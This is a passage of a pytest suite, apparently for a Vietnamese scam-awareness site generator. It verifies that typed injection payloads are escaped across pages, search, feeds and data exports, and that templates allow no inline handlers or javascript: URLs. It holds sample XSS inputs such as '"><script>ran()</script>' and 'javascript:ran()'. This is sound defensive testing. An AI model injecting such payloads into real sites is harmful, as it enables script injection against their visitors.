                f"{name}: {shape[at : at + 3]} {values[at : at + 3]}, should be {plain_shape[at : at + 3]}"
            )
            continue
        if name == SORTED_BY_TITLE:
            missing = Counter(map(typed.expected, plain_values)) - Counter(values)
            differences += [f"{name}: {value!r} is missing" for value in missing]
            continue
        for what, value, plain in zip(shape, values, plain_values, strict=True):
            if value == plain:
                continue
            if (
                _SLUGS.match(what)
                and re.fullmatch(r"#?[a-z0-9_-]+", value)
                and re.fullmatch(r"#?[a-z0-9-]*tz[0-9]{5}z*", plain)
            ):
                continue
            expected = typed.expected(plain)
            if name == CODE_TO_PASTE and what.endswith("text in textarea"):
                value = html.unescape(value)
            checked += 1
            is_address = what.endswith("a.href") and unquote(value) == unquote(expected)
            if value != expected and not is_address:
                differences.append(f"{name}: {what} is {value!r}, typed {expected!r}")
    return checked, differences


def run_pages(page: Page, home: str, paths: list[str]) -> int:
    """Open pages and touch everything that reacts to being touched; returns how many were opened.

    Raises AssertionError when a page leads away by itself.
    """
    for path in paths:
        page.goto(home + path)
        page.evaluate(
            """() => document.querySelectorAll("*").forEach((element) => {
              for (const kind of ["mouseover", "mouseenter", "focus", "focusin", "toggle", "load", "error"])
                element.dispatchEvent(new Event(kind));
            })"""
        )
        assert page.url == home + path, f"{path} led to {page.url}"
    return len(paths)


@dataclass(frozen=True)
class Pair:
    dangerous: Project
    harmless: Project
    typed: Typed


def make_pair(folder: Path, payloads: tuple[str, ...], variant: int = 0, count: int | None = None) -> Pair:
    dangerous, harmless, typed = make_files(payloads, count or len(payloads), variant)
    return Pair(build_project(folder / "dangerous", dangerous), build_project(folder / "harmless", harmless), typed)


@pytest.fixture(scope="module")
def pair(tmp_path_factory: pytest.TempPathFactory) -> Pair:
    return make_pair(tmp_path_factory.mktemp("injection"), PAYLOADS, count=28)


# --- tests -----------------------------------------------------------------------------------------------------


def test_payloads_are_many_and_fit() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 40
    assert max(map(len, PAYLOADS)) <= 60


def test_every_text_field_gets_payloads(pair: Pair) -> None:
    """The schema says which fields there are: a new one cannot be forgotten here."""
    wanted = {
        f"{kind}: {place}"
        for kind, model in FILES.items()
        for place, what in leaves(schema_of(model))
        if what == "text"
    }
    assert wanted == set(pair.typed.fields) - {"url"}


def test_same_page_with_payloads_as_with_harmless_text(pair: Pair, browser: Browser) -> None:
    with watched_page(browser) as page:
        checked, differences = compare(page, pair.dangerous.site, pair.harmless.site, pair.typed)
    assert not differences, f"{len(differences)} differences:\n" + "\n".join(differences[:20])
    assert checked > 3_000
    unseen = set(pair.typed.fields) - NOT_YET_SHOWN - pair.typed.shown_fields
    assert not unseen, unseen


def test_fields_that_a_project_has_once(tmp_path: Path, browser: Browser) -> None:
    """Name of the site, operator and so on get other payloads; headings end in number signs."""
    with watched_page(browser) as page:
        assert differences_in_variant(1, tmp_path, page) == []


def differences_in_variant(variant: int, folder: Path, page: Page) -> list[str]:
    """With a few payloads, so placed that fields which a project has once get others."""
    pair = make_pair(folder, tuple(payload for payload in PAYLOADS if "#" in payload), variant)
    return compare(page, pair.dangerous.site, pair.harmless.site, pair.typed)[1]


def _is_missing_card(finding: str) -> bool:
    """These sites are built without pictures; the console says no more than that a file is missing."""
    return bool(re.match(r"HTTP: 404 \S+/the/\S+\.png|console: Failed to load resource: .* \S+/chia-se/", finding))


@pytest.mark.parametrize("bypass_csp", [False, True], ids=["csp", "without csp"])
def test_nothing_runs(pair: Pair, browser: Browser, serve_folder: Callable[[Path], str], bypass_csp: bool) -> None:
    """Neither under the policy of the pages nor, which shows more, without it."""
    ran: list[str] = []
    home = serve_folder(pair.dangerous.site)
    whole = "canh-bao/" if bypass_csp else ""
    paths = [path for path in sampled_addresses(pair.dangerous.site, whole=whole) if "/cu-" not in path]
    with watched_page(browser, bypass_csp=bypass_csp, init=MARKER, expected=_is_missing_card) as page:
        page.expose_function("testRan", lambda where: ran.append(where))
        assert run_pages(page, home, [*paths, "404.html"]) > 28
    assert ran == []


def test_search_results_show_payloads_as_typed(
    pair: Pair, browser: Browser, serve_folder: Callable[[Path], str]
) -> None:
    """Results are made by script, so the templates' escaping does not help them."""
    ran: list[str] = []
    home = serve_folder(pair.dangerous.site)
    with watched_page(browser, bypass_csp=True, init=MARKER) as page:
        page.expose_function("testRan", lambda where: ran.append(where))
        page.goto(f"{home}tim/")
        entries = page.evaluate("window.searchData.entries")
        for entry in entries[::3]:
            page.evaluate("q => { location.hash = '#q=' + encodeURIComponent(q); }", entry["title"])
            page.wait_for_function("t => document.querySelector('#tim-o').value === t", arg=entry["title"].strip())
            titles = page.locator(".cb-result__title").all_text_contents()
            assert titles, entry["title"]
            assert set(titles) <= {other["title"] for other in entries}
            names = set(page.locator(".cb-results *").evaluate_all("es => es.map(e => e.localName)"))
            assert names <= {"li", "a", "p"}
    assert ran == []


def test_old_addresses_with_payloads_lead_to_the_page(
    pair: Pair, browser: Browser, serve_folder: Callable[[Path], str]
) -> None:
    home = serve_folder(pair.dangerous.site)
    with watched_page(browser) as page:
        for number in range(0, 28, 9):
            page.goto(f"{home}canh-bao/cu-{number:02}/")
            page.wait_for_url(f"{home}canh-bao/thu-{number:02}/")


def test_other_files_hold_no_markup(pair: Pair) -> None:
    """The sitemap stays XML with the same addresses; identity.yml reads back as typed."""
    dangerous, harmless = ((project.site / "sitemap.xml").read_bytes() for project in (pair.dangerous, pair.harmless))
    assert dangerous == harmless
    assert len(ElementTree.fromstring(dangerous)) > 28
    identities = [_without_versions(p.generated / "identity.yml") for p in (pair.dangerous, pair.harmless)]
    told, plain = (json.loads(text) for text in identities)
    assert told == _expected(pair.typed, plain)


def test_open_data_says_what_was_typed(pair: Pair) -> None:
    """JSON answers, tables and feeds of both projects are the same but for what was typed."""
    told, plain = (pair.dangerous.site, pair.harmless.site)
    for kind in RECORD_CLASSES.keys() - {"areas"}:
        name = f"api/v1/{'tactics-full' if kind == 'tactics' else kind}.json"
        answers = [_by_id(json.loads((site / name).read_text("utf-8"))["result"]) for site in (told, plain)]
        assert answers[0] == _expected(pair.typed, answers[1])
    for name in ("canh-bao", "so-goi"):
        tables = [(site / f"du-lieu/{name}.csv").read_bytes().decode("utf-8-sig") for site in (told, plain)]
        rows = [{row["Mã"]: row for row in csv.DictReader(io.StringIO(table, newline=""))} for table in tables]
        expected = _expected(pair.typed, rows[1])
        assert rows[0] == {
            key: {column: harmless(cell) for column, cell in row.items()} for key, row in expected.items()
        }
    for feed in ("feed", "feed/doi-tuong/nguoi-cao-tuoi"):
        found = [_by_id(json.loads((site / f"{feed}.json").read_text("utf-8"))["items"]) for site in (told, plain)]
        both = found[0].keys() & found[1].keys()
        assert both
        for key in both:
            made = [{name: text for name, text in items[key].items() if name != "content_html"} for items in found]
            assert made[0] == _expected(pair.typed, made[1])
        entries = [_atom_entries(site / f"{feed}.xml") for site in (told, plain)]
        assert both <= entries[0].keys() & entries[1].keys()
        for key in both:
            assert entries[0][key] == _expected(pair.typed, entries[1][key])


def _by_id(items: Sequence[Mapping[str, Any]]) -> dict[str, Any]:
    """Titles that are typed otherwise stand in another order."""
    return {item["id"]: item for item in items}


def _atom_entries(path: Path) -> dict[str, list[Any]]:
    """Id of each entry → names, attributes and texts of all that is in it; its HTML has tests in test_feeds.py."""
    atom = "{http://www.w3.org/2005/Atom}"
    entries = {}
    for entry in ElementTree.parse(path).getroot().iter(f"{atom}entry"):
        parts = [[part.tag, dict(part.attrib), part.text or ""] for part in entry if part.tag != f"{atom}content"]
        entries[entry.findtext(f"{atom}id") or ""] = parts
    return entries


def _expected(typed: Typed, node: Any) -> Any:
    if isinstance(node, str):
        return typed.expected(node)
    if isinstance(node, list):
        return [_expected(typed, item) for item in node]
    return {key: _expected(typed, value) for key, value in node.items()} if isinstance(node, dict) else node


def test_the_tests_notice_what_runs(tmp_path: Path, browser: Browser, serve_folder: Callable[[Path], str]) -> None:
    """The other side of the proof: with escaping switched off, the same checks raise the alarm."""
    alarms = unescaped_alarms(tmp_path, browser, serve_folder, CONTROL)
    assert alarms["ran"] > 0
    assert alarms["differences"] > 0
    assert alarms["csp"] > 0


def unescaped_alarms(
    folder: Path, browser: Browser, serve: Callable[[Path], str], payloads: tuple[str, ...]
) -> dict[str, int]:
    """Build with Markdown escaping switched off, and count what the checks of this file notice."""
    dangerous, harmless, _ = make_files(payloads, len(payloads))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(templating, "escape_markdown", Markdown)
        patch.setattr(templating, "escape_and_dial", lambda text, numbers: Markdown(text))
        project = write_project(folder / "dangerous", dangerous)
        site = folder / "site"
        render_without_policy(project, site)
    plain = build_project(folder / "harmless", harmless)
    names = [name for name in html_files(site) if name.startswith("canh-bao/") and (plain.site / name).exists()]
    ran: list[str] = []
    differences = 0
    home = serve(site)
    with watched_page(browser, bypass_csp=True, init=MARKER, expected=lambda text: True) as page:
        page.expose_function("testRan", lambda where: ran.append(where))
        for name in names:
            page.goto(home + name, wait_until="commit")
            page.wait_for_load_state("domcontentloaded")
    blocked: list[str] = []
    policy = re.search(
        r'<meta http-equiv="Content-Security-Policy"[^>]*>', (plain.site / "index.html").read_text("utf-8")
    )
    assert policy is not None
    with watched_page(browser, expected=lambda text: blocked.append(text) is None) as page:
        for name in names:
            shape, _ = page.evaluate(WALK, (site / name).read_text("utf-8"))
            differences += shape != page.evaluate(WALK, (plain.site / name).read_text("utf-8"))[0]
        for name in names[:4]:
            text = (site / name).read_text("utf-8")
            (site / name).write_text(
                text.replace('<meta charset="utf-8">', f'<meta charset="utf-8">{policy[0]}'), "utf-8"
            )
            page.goto(home + name, wait_until="commit")
            page.wait_for_load_state("domcontentloaded")
    return {"ran": len(ran), "differences": differences, "csp": sum(text.startswith("CSP") for text in blocked)}


def render_without_policy(project: Project, site: Path) -> None:
    library, problems = read_library(project.warnings)
    assert problems == []
    catalogue = Catalogue.link(library, DAY)
    write_docs(project, finished(render_all(catalogue)), day=DAY)
    render_pages(project, site, strict=False, day=DAY, content_security=False)


# --- fields where the schema refuses ---------------------------------------------------------------------------

REFUSING = [
    (kind, place)
    for kind, model in FILES.items()
    for place, what in leaves(schema_of(model))
    if what == "form" and place != "id" and not place.endswith("supports[]")
]


@pytest.mark.parametrize(("kind", "place"), REFUSING, ids=str)
def test_ids_addresses_numbers_and_days_take_no_payload(kind: str, place: str) -> None:
    """Every field with a form of its own: no payload passes, as it is or after what a right value begins with."""
    data = _read_back(kind)
    assert _passes(kind, data), "the record without payload must be right"
    for payload in PAYLOADS:
        for text in (payload, f"{_example(data, place)}{payload}", f"{_example(data, place)} {payload}"):
            is_address = place.endswith("url") or (kind, place) == ("site.yml", "quick_exit")
            if is_address and re.fullmatch(r"https://[^\s<>\"'()\\]+", text):
                continue  # an address is more than letters; URL_PAYLOADS shows that it stays one
            assert not _passes(kind, _with(data, place, text)), text


def _whole_area() -> dict[str, Any]:
    """With what only real areas have."""
    area = _area(0)
    contact = area["contacts"][0] | {"source": 1, "verified_on": "2026-11-02"}
    neighbour = area["neighbours"][0] | {"proposed": True}
    return area | {"contacts": [contact], "neighbours": [neighbour], "tested_on": "2026-11-02"}


@cache
def _read_back(kind: str) -> dict[str, Any]:
    make = {
        "tactics": lambda: _tactic(0, 9) | {"aliases": ["cu"]},
        "responses": lambda: _response(0) | {"aliases": ["cu"]},
        "tips": lambda: _tip(0) | {"aliases": ["cu"]},
        "guides": lambda: _guide(1) | {"aliases": ["cu"], "kit": _kit(1) | {"checklists": ["bang"]}},
        "models": lambda: _model(0) | {"aliases": ["cu"]},
        "areas": lambda: _whole_area() | {"aliases": ["cu"]},
        "campaigns": lambda: _campaign(0) | {"aliases": ["cu"], "checklists": ["bang-kiem"]},
        "checklists": lambda: _checklist(0) | {"aliases": ["cu"]},
    }
    make |= {"contacts": lambda: _contact(0) | {"aliases": ["cu"]}}
    make |= {"site.yml": lambda: _site(2), "vocabulary.yml": lambda: _vocabulary(2)}
    make |= {"source-items.yml": lambda: _source_items(2, 2), "emergency.yml": lambda: _emergency(2)}
    data: dict[str, Any] = parse_yaml(yaml_text(make[kind]()).encode()).data
    return data


def _passes(kind: str, data: dict[str, Any]) -> bool:
    try:
        FILES[kind].model_validate(data | ({"id": "thu"} if kind in RECORD_CLASSES else {}))
    except ValidationError:
        return False
    return True


def _example(data: dict[str, Any], place: str) -> str:
    node: Any = data
    for name in re.findall(r"\w+|\[\]|\{\}", place):
        node = node[0] if name == "[]" else next(iter(node.values())) if name == "{}" else node[name]
    return str(node)


def _with(data: dict[str, Any], place: str, text: str) -> dict[str, Any]:
    data = copy.deepcopy(data)
    steps = [0 if name == "[]" else name for name in re.findall(r"\w+|\[\]|\{\}", place)]
    node: Any = data
    for step in steps[:-1]:
        node = next(iter(node.values())) if step == "{}" else node[step]
    node[steps[-1]] = text
    return data


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if not {"/", "\n"} & set(p)])
def test_names_of_files_take_no_payload(payload: str, tmp_path: Path) -> None:
    """The name of the file is the id and becomes part of addresses."""
    (tmp_path / "tactics").mkdir()
    (tmp_path / "tactics" / f"{payload}.yml").write_text("{}", "utf-8")
    library, problems = read_library(tmp_path)
    assert library.tactics == {}
    assert any("Tên tệp chỉ được" in problem.what for problem in problems)


def test_words_outside_the_vocabulary_are_refused_and_nothing_is_built(tmp_path: Path) -> None:
    dangerous, _, _ = make_files(count=8)
    dangerous["tactics/thu-03.yml"]["sources"][0]["supports"] = ["<script>ran()</script>"]
    dangerous["tactics/thu-04.yml"]["sources"][0]["url"] = "javascript:ran()"
    dangerous["contacts/kenh-05.yml"]["number"] = '"><script>ran()</script>'
    project = write_project(tmp_path, dangerous)
    with pytest.raises(InvalidRecords) as refused:
        build(Request(project, DAY, strict=False, pictures=False))
    # areas that mention terms beyond these eight records have problems of their own
    places = {Path(problem.path).name for problem in refused.value.problems if problem.severity == "error"}
    places = {place for place in places if not place.startswith("an-giang-")}
    assert places == {"thu-03.yml", "thu-04.yml", "kenh-05.yml"}
    assert not project.site.exists()
    assert not project.generated.exists()


# --- templates of the theme ------------------------------------------------------------------------------------

OVERRIDES = ROOT / "overrides"
THEME_FILES = sorted(
    path.relative_to(OVERRIDES).as_posix() for path in OVERRIDES.rglob("*") if path.suffix in (".html", ".xml")
)
THEME_FILES.remove("styles/specimen.html")  # read by awareness/stylesheet.py, never published

ALREADY_MARKUP: Final = {
    "page.content": "Markdown that MkDocs has rendered; the fields in it were escaped before",
    "parts.lead": "a piece of page.content",
    "parts.sections[id]": "a piece of page.content",
    'parts.sections["a-z"]': "a piece of page.content",
    "line.strip()": "a line of a script of ours, whole files (see partials/script.html)",
    'script.inlined(["chosen-reading"])': "macro: a whole file of ours",
    'script.inlined(["search-folding", "search-fetching"])': "macro: whole files of ours",
    'script.inlined(["search-shards", "search"])': "macro: whole files of ours",
    "super()": "the block of the template above, checked there",
    "section(id)": "macro: wraps a piece of page.content",
    'section("da-lo")': "macro: wraps a piece of page.content",
    "loop(item.children)": "the same loop again, which escapes",
    "words.document_title()": "macro that returns escaped text (see words.html)",
    "words.either(extra.never_asks)": "macro that returns escaped text",
    "words.day(body.on)": "macro that returns escaped text",
    "words.day(page.meta.review_due)": "macro that returns escaped text",
    "words.dial(entry.number)": "macro that returns escaped text",
    "words.dial(emergency.number)": "macro that returns escaped text",
    "message.script()": "macro that returns escaped text",
    "message.box()": "macro that returns escaped text",
    "message.box(calling=false)": "macro that returns escaped text",
    "'article' if meta.template == 'tactic.html' or meta.preview else 'website'": "one of two fixed words",
}
"""What may be printed without ``| e``, and why."""

_PRINTED = re.compile(r"\{\{-?\s*(.*?)\s*-?\}\}", re.DOTALL)


@pytest.mark.parametrize("name", THEME_FILES)
def test_templates_escape_what_they_print(name: str) -> None:
    source = re.sub(
        r"\{#.*?#\}|\{% raw %\}.*?\{% endraw %\}", "", (OVERRIDES / name).read_text("utf-8"), flags=re.DOTALL
    )
    for expression in _PRINTED.findall(source):
        is_escaped = re.search(r"\|\s*e$", expression) and not re.search(r"~[^|]*\|\s*e$", expression)
        if expression.startswith("(") and re.search(r"\)\s*\|\s*e$", expression):
            is_escaped = True  # (a ~ b) | e: the brackets make it all of it
        if re.search(r'items\[:-1\] \| map\("e"\) \| join\(", "\)$', expression):
            is_escaped = True
        is_data = re.search(r"\|\s*tojson$", expression)
        assert is_escaped or is_data or expression in ALREADY_MARKUP, f"{name}: {{{{ {expression} }}}} is not escaped"
    assert not re.search(r"\|\s*safe\b|autoescape|Markup\(", source), f"{name} switches escaping off"


@pytest.mark.parametrize("name", THEME_FILES)
def test_templates_have_nothing_inline_that_a_policy_forbids(name: str) -> None:
    source = re.sub(r"\{#.*?#\}", "", (OVERRIDES / name).read_text("utf-8"), flags=re.DOTALL)
    # whole files of ours may stand in a page: the policy has their hash, and no value of a record is among them
    source = re.sub(
        r'<script(?: data-cb-\w+="\{\{ page.meta.[a-z_]+ \| e \}\}")?>'
        r'\{\{ script.inlined\(\[[a-z", -]+\]\) \}\}</script>',
        "",
        source,
    )
    for tag in re.findall(r"<[a-zA-Z][^>]*>", re.sub(r"<style>.*?</style>", "", source, flags=re.DOTALL)):
        assert not re.search(r"[\s\"'/](on[a-z]+|style)\s*=", unescape(tag), re.IGNORECASE), f"{name}: {tag}"
        assert "javascript:" not in tag.lower(), f"{name}: {tag}"
    for script in re.findall(r"<script\b[^>]*>", source):
        assert 'type="application/ld+json"' in script or re.search(r"\bsrc=", script), f"{name}: {script}"


@pytest.mark.parametrize("path", sorted((OVERRIDES / "assets").glob("*.js")), ids=lambda path: path.name)
def test_scripts_can_stand_in_a_page(path: Path) -> None:
    """Nothing in them means anything to Jinja or ends their element."""
    assert not re.search(r"\{[{%#]|</script|<!--", path.read_text("utf-8"), re.IGNORECASE)


def test_allow_list_names_only_what_is_there() -> None:
    """A reason that nobody needs any more would let something else through later."""
    everything = "\n".join((OVERRIDES / name).read_text("utf-8") for name in THEME_FILES)
    printed = set(_PRINTED.findall(everything))
    assert set(ALREADY_MARKUP) <= printed, set(ALREADY_MARKUP) - printed
